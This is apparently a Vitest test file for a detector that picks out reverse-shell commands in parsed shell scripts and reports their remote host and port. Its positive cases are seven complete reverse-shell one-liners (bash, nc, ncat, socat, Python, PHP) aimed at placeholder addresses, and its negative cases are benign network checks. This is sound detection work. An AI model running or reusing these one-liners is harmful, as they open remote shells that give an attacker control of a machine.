import { expect, it } from 'vitest'
import { parseScript } from '../model/host/shell.ts'
import { networkShell } from './network-shell.ts'

it.each([
  ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', '203.0.113.9:4444'],
  [
    '0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196; while read l; do $l; done',
    '203.0.113.9:4444',
  ],
  ['nc -e /bin/sh 203.0.113.9 4444', '203.0.113.9:4444'],
  ['ncat --exec /bin/bash box.example 443', 'box.example:443'],
  ["socat exec:'bash -li',pty,stderr tcp:203.0.113.9:443", '203.0.113.9:443'],
  [
    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
    '203.0.113.9:4444',
  ],
  [`php -r '$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, '203.0.113.9:4444'],
])('%s', (text, remote) => {
  expect(networkShell(parseScript(text), text)?.remote).toBe(remote)
})

it.each([
  'timeout 1 bash -c "</dev/tcp/db.example/5432"',
  '(echo > /dev/tcp/192.0.2.7/22) && echo open',
  'nc -zv db 5432',
  'nc -l -p 9000',
  'socat TCP-LISTEN:80,fork TCP:db:80',
  'python3 -c \'import psycopg2; psycopg2.connect("host=db"); import subprocess\'',
  'ssh -i key.pem web-1',
])('none: %s', (text) => {
  expect(networkShell(parseScript(text), text)).toBeNull()
})
